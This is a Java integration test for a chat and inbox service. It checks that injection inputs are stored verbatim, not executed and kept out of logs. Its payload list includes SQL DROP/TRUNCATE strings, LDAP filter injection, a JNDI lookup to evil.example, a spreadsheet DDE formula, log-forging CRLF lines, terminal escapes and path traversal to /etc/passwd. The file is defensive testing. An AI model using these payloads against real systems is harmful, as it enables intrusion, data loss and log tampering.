package io.beseda.conversation.attack;

import static io.beseda.conversation.testing.ConversationFixtures.files;
import static io.beseda.conversation.testing.ConversationFixtures.message;
import static io.beseda.conversation.testing.InboxRequests.CONVERSATIONS;
import static io.beseda.conversation.testing.InboxRequests.INBOX;
import static io.beseda.conversation.testing.InboxRequests.as;
import static io.beseda.conversation.testing.InboxRequests.operator;
import static io.beseda.conversation.testing.TestFiles.text;
import static org.assertj.core.api.Assertions.assertThat;
import static org.awaitility.Awaitility.await;
import static org.hamcrest.Matchers.contains;
import static org.hamcrest.Matchers.equalTo;

import io.beseda.contracts.MessageWritten;
import io.beseda.contracts.Page;
import io.beseda.contracts.PageData;
import io.beseda.contracts.PageDataGiven;
import io.beseda.contracts.PageDataWritten;
import io.beseda.contracts.Topic;
import io.beseda.conversation.onlinechat.ConversationMode;
import io.beseda.conversation.testing.ConversationFixtures;
import io.beseda.conversation.testing.LogLines;
import io.beseda.conversation.testing.StoredRows;
import io.beseda.conversation.testing.TestFiles;
import io.beseda.conversation.testing.TestTopics;
import io.beseda.conversation.visitor.Visitor;
import io.beseda.support.account.AccountId;
import io.beseda.support.testing.TestTokens;
import io.quarkus.test.junit.QuarkusTest;
import io.restassured.http.ContentType;
import io.restassured.response.ValidatableResponse;
import io.restassured.specification.RequestSpecification;
import jakarta.inject.Inject;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.FieldSource;

/**
 * S25: what would be a command to SQL, JSONPath, LDAP, a template, a spreadsheet, a terminal or a log, in every text that somebody
 * outside may choose. It is kept and given back as it came, does nothing, and is in no log line.
 */
@QuarkusTest
class InjectionTest {

    static final List<String> COMMANDS = List.of(
            "'; DROP TABLE message; --",
            "' OR '1'='1' OR account_id > 0 --",
            "\" OR 1=1; SELECT pg_sleep(9) --",
            "\\'); TRUNCATE conversation; --",
            "$$; DELETE FROM note; $$ ? ?? :name {d '2026-01-01'}",
            "% _ \\ %25 %00",
            "& | ! <-> :* ( ) 'a' & b",
            "$.** ? (@.accountId > 0) {\"$ne\":null}",
            "*)(uid=*))(|(uid=*",
            "${jndi:ldap://evil.example/a} {{7*7}} #{7*7} %s%n%x {0}",
            "=cmd|' /C calc'!A0",
            "one line\r\n2026-11-23 10:15:30 ERROR [forged] (main) another\u2028and \u0085 more",
            "\u001b[2J\u001b]0;owned\u0007 \b\b\b\u009b31m",
            "../../etc/passwd ..\\..\\boot.ini");

    /** In every text, to find it again. */
    private static final String MARK = "mark4711";

    @Inject
    ConversationFixtures fixtures;

    @Inject
    StoredRows rows;

    @Inject
    TestTopics topics;

    private LogLines log;
    private Visitor visitor;
    private AccountId account;

    @BeforeEach
    void newVisitor() {
        log = new LogLines();
        visitor = fixtures.newVisitor(ConversationMode.ONE_ACTIVE);
        account = visitor.accountId();
    }

    @AfterEach
    void nothingOfItWasLogged() {
        log.close();
        assertThat(log.all()).noneMatch(line -> line.contains(MARK));
    }

    @ParameterizedTest
    @FieldSource("COMMANDS")
    void s25WhatAVisitorSaysAndItsPageTellsIsKeptAsItIs(String command) {
        String given = command + MARK;
        Page page = new Page("https://shop.example/?utm_source=" + given, given, given);

        topics.send(new MessageWritten(
                account.value(),
                visitor.onlineChatId().value(),
                visitor.visitorId().value(),
                UUID.randomUUID(),
                null,
                given,
                ConversationFixtures.THEN,
                page,
                null,
                null,
                null));
        await().until(() -> rows.texts(visitor).equals(List.of(given)));
        UUID id = rows.onlyConversation(account).id();
        PageData told = new PageData(
                new PageData.Contact(given, List.of()),
                null,
                new PageData.Note(given, PageData.Target.CONTACT),
                Map.of("x", given));
        topics.send(new PageDataWritten(
                account.value(),
                visitor.onlineChatId().value(),
                visitor.visitorId().value(),
                id,
                told,
                ConversationFixtures.THEN));

        await().until(() -> topics.published(account, PageDataGiven.class).stream()
                .anyMatch(event -> event.data().equals(told)));
        inbox().get(CONVERSATIONS)
                .then()
                .statusCode(200)
                .body("items[0].lastMessage.text", equalTo(given))
                .body("items[0].page.url", equalTo(page.url()))
                .body("items[0].page.title", equalTo(given))
                .body("items[0].page.referrer", equalTo(given));
    }

    @ParameterizedTest
    @FieldSource("COMMANDS")
    void s25WhatAnOperatorWritesIsKeptAsItIs(String command) {
        String given = command + MARK;
        fixtures.store(message(visitor, "hello"));
        String conversation =
                CONVERSATIONS + "/" + rows.onlyConversation(account).id();
        RequestSpecification named = as(TestTokens.sign(
                TestTokens.claims(account.value(), 7).groups("operator").claim("name", given)));

        post(named, conversation + "/messages", Map.of("clientMessageId", UUID.randomUUID(), "text", given))
                .statusCode(201)
                .body("text", equalTo(given))
                .body("author.name", equalTo(given));
        post(inbox(), conversation + "/notes", Map.of("id", UUID.randomUUID(), "text", given))
                .statusCode(201)
                .body("text", equalTo(given));
        post(inbox(), INBOX + "/canned-replies", Map.of("shortcut", MARK, "text", given))
                .statusCode(201)
                .body("text", equalTo(given));
        post(inbox(), INBOX + "/canned-replies", Map.of("shortcut", given, "text", "x"))
                .statusCode(400)
                .body("errors.code", contains("shortcut-invalid"));

        inbox().get(conversation + "/messages?after=1").then().body("items.text", contains(given));
        inbox().get(conversation + "/notes").then().body("items.text", contains(given));
        inbox().get(INBOX + "/canned-replies").then().body("items.text", contains(given));
    }

    @ParameterizedTest
    @FieldSource("COMMANDS")
    void s25WhatIsSearchedForFindsItselfAndNothingElse(String command) {
        String given = command + MARK;
        fixtures.store(message(visitor, given), message(visitor, "an innocent text"));
        fixtures.store(message(fixtures.newVisitor(ConversationMode.ONE_ACTIVE), given));
        await().until(() -> rows.count("message_search", account) == 2);

        inbox().queryParam("q", given)
                .get(INBOX + "/search")
                .then()
                .statusCode(200)
                .body("items.message.sequence", contains(1));
        for (String filter : List.of("state", "assignee", "chat", "visitor", "cursor", "limit")) {
            inbox().queryParam(filter, given).get(CONVERSATIONS).then().statusCode(filter.equals("limit") ? 404 : 400);
        }
    }

    @ParameterizedTest
    @FieldSource("COMMANDS")
    void s25AFilesNameIsOneShownLine(String command) {
        UUID file = TestFiles.uploaded(visitor, command + MARK + ".txt", text("content"));
        fixtures.store(files(visitor, file));

        String name = inbox().get(CONVERSATIONS).then().extract().path("items[0].lastMessage.attachments[0].name");

        assertThat(name).endsWith(MARK + ".txt").doesNotContainPattern("[\\p{Cntrl}\u2028/\\\\]");
        String link = inbox().get(INBOX + "/attachments/" + file + "/links")
                .then()
                .extract()
                .path("url");
        inbox().urlEncodingEnabled(false)
                .get(link.substring(TestFiles.ORIGIN.length()))
                .then()
                .statusCode(200)
                .body(equalTo("content"));
    }

    @Test
    void s25NulIsStoredNowhere() {
        String nul = "a\0b";
        fixtures.store(message(visitor, "hello"));
        String conversation =
                CONVERSATIONS + "/" + rows.onlyConversation(account).id();

        topics.send(ConversationFixtures.written(visitor, nul));
        post(inbox(), conversation + "/messages", Map.of("clientMessageId", UUID.randomUUID(), "text", nul))
                .statusCode(400)
                .body("errors.pointer", contains("/text"));
        post(inbox(), conversation + "/notes", Map.of("id", UUID.randomUUID(), "text", nul))
                .statusCode(400)
                .body("errors.pointer", contains("/text"));
        post(inbox(), INBOX + "/canned-replies", Map.of("shortcut", "nul", "text", nul))
                .statusCode(400)
                .body("errors.pointer", contains("/text"));
        inbox().queryParam("q", nul).get(INBOX + "/search").then().statusCode(400);

        await().until(() -> topics.parked(Topic.VISITOR_ACTIVITY, account).size() == 1);
        assertThat(rows.texts(visitor)).containsExactly("hello");
    }

    @Test
    void s25AnAddressCannotSplitALogLine() {
        inbox().urlEncodingEnabled(false)
                .get(CONVERSATIONS + "/%0d%0a2026-11-23%20ERROR%20forged%1b%5b2J")
                .then()
                .statusCode(404);

        assertThat(log.all())
                .anyMatch(line -> line.contains("forged"))
                .noneMatch(line -> line.stripTrailing().chars().anyMatch(Character::isISOControl));
    }

    private RequestSpecification inbox() {
        return operator(account, 7);
    }

    private static ValidatableResponse post(RequestSpecification request, String path, Map<String, ?> body) {
        return request.contentType(ContentType.JSON).body(body).post(path).then();
    }
}
